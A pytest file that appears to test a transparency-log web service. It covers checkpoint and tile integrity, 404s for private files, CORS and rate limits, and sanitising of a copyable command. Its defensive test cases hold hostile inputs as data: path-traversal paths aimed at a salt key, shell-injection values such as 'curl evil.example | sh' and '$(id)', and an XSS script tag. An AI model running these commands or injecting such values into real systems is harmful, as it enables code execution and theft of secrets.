"""What everybody gets of the public logs, from a real service on a real database."""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Final

import pytest

from services.transparency.beginning import init_public_logs
from shared.log.port import Record
from shared.tlog.checkpoints import TreeHead, read_checkpoint
from shared.tlog.notes import open_note, read_verifier_key
from shared.tlog.tiles import HashTile
from shared.tlog.trees import TileTree
from tests.conftest import Database
from tests.ingest.claims import a_round, a_session
from tests.log.deadlines import until
from tests.service import LOG_ID, RunningService, running_service
from tests.tlog.naive import tree_head
from tests.transparency.serving import keeping
from tests.transparency.town import PUBLIC_URL, leaf_by_hand

WITNESS: Final = (
    "https://witness.example witness.example+9ef8ba4e+BJpMVsTrCJvPmOyIvfHnXWqjgjEFn9gvC2u2n0Tys7jA"
)


@pytest.fixture
async def service(database: Database, tmp_path: Path) -> AsyncIterator[RunningService]:
    """Return a service that keeps public logs."""
    folder = tmp_path / "transparency"
    init_public_logs(folder, PUBLIC_URL)
    async with keeping(database, folder) as service:
        yield service


async def night(service: RunningService) -> None:
    """Record a session, and wait for its verdict."""
    claim = a_session(a_round(ada=2, bo=1))
    answer = await service.submit(claim, await service.source_key(), prefer="wait=30")
    assert answer.status_code in {200, 201}, answer.text


async def checkpoint_of(service: RunningService, name: str) -> TreeHead | None:
    """Return the checkpoint that everybody gets, checked with the key that everybody gets."""
    answer = await service.client.get(f"/log/{name}/checkpoint")
    if answer.status_code != 200:
        return None
    keys = (await service.client.get("/log/keys")).text.splitlines()
    named = [read_verifier_key(each.removeprefix("log ")) for each in keys]
    text, _ = open_note(answer.text, [each for each in named if each.name.endswith(name)])
    return read_checkpoint(text)


async def test_checkpoint_and_tiles_are_those_of_the_logs(service: RunningService) -> None:
    await night(service)
    log = service.service.logs
    for name, of in (("facts", log.recorded), ("verdicts", log.verdicts)):
        size = (await of.tail()).seq
        assert size > 0

        async def signed() -> bool:
            found = await checkpoint_of(service, name)  # noqa: B023 - awaited in this turn.
            return found is not None and found.size == size  # noqa: B023

        await until(signed)
        records = [
            Record(row["seq"], row["chain"], row["body"])
            for row in await service.pool.fetch(f"SELECT * FROM mahjic.{name} ORDER BY seq")
        ]
        folder = service.service.process.settings.transparency
        assert folder is not None
        key = bytes.fromhex((folder / "salt-key").read_text())
        leaves = [leaf_by_hand(key, name, each, LOG_ID) for each in records]
        found = await checkpoint_of(service, name)
        assert found is not None
        assert found.root == tree_head(leaves)
        tile = await service.client.get(f"/log/{name}/{HashTile(0, 0, size).path}")
        assert tile.content == b"".join(leaves)
        assert "immutable" in tile.headers["cache-control"]
        assert TileTree(size, {HashTile(0, 0, size): tile.content}.get).root() == found.root


@pytest.mark.parametrize(
    "path",
    [
        "/log/facts/tile/0/000.p/200",
        "/log/facts/tile/0/000",
        "/log/facts/tile/0/0",
        "/log/facts/tile/0/000.p/0",
        "/log/facts/tile/entries/000",
        "/log/facts/tile/../taken-in",
        "/log/facts/tile/%2e%2e/%2e%2e/salt-key",
        "/log/facts/2/checkpoint",
        "/log/facts/ended",
    ],
)
async def test_what_is_not_there_is_refused(service: RunningService, path: str) -> None:
    answer = await service.client.get(path)
    assert answer.status_code == 404, answer.text


async def test_the_private_files_have_no_address(service: RunningService) -> None:
    for name in ("salt-key", "signing-key", "facts/taken-in", "stopped", "lock"):
        answer = await service.client.get(f"/log/{name}")
        assert answer.status_code in {404, 422}


async def test_whoever_checks_is_not_slowed_down_and_may_be_a_page_elsewhere(
    database: Database, tmp_path: Path
) -> None:
    folder = tmp_path / "transparency"
    init_public_logs(folder, PUBLIC_URL)
    limits = {"public_limit_per_minute": 1, "page_limit_per_minute": 1}
    settings: dict[str, Any] = {"transparency": folder, "public_url": PUBLIC_URL, **limits}
    async with running_service(database, **settings) as service:
        for _ in range(5):
            answer = await service.client.get(
                "/log/keys", headers={"Origin": "https://club.example"}
            )
            assert answer.status_code == 200
            assert answer.headers["access-control-allow-origin"] == "*"
            assert answer.text.count("log mahjic.example/") == 2


async def test_without_a_folder_there_is_no_public_log(database: Database) -> None:
    async with running_service(database) as service:
        for path in ("/log/keys", "/log/facts/checkpoint", "/log/verdicts/tile/0/000"):
            answer = await service.client.get(path)
            assert (answer.status_code, answer.json()["code"]) == (404, "no_public_log")


@pytest.mark.parametrize(
    ("asked", "in_command"),
    [
        ("MJ-0000001Y", "MJ-0000001Y"),
        ("", "MJ-7K3Q9XZM"),
        ("mj-0000001y", "MJ-7K3Q9XZM"),
        ("x; curl evil.example | sh", "MJ-7K3Q9XZM"),
        ("MJ-0000001Y$(id)", "MJ-7K3Q9XZM"),
        ("MJ-0000001Y\nid", "MJ-7K3Q9XZM"),
        ("<script>alert(1)</script>", "MJ-7K3Q9XZM"),
    ],
)
async def test_the_command_that_people_copy_holds_an_id_and_nothing_else(
    service: RunningService, asked: str, in_command: str
) -> None:
    answer = await service.client.get("/log", params={"player": asked})
    assert answer.status_code == 200
    assert f"mahjic check {PUBLIC_URL} --player {in_command}<" in answer.text
    assert "<script>alert" not in answer.text
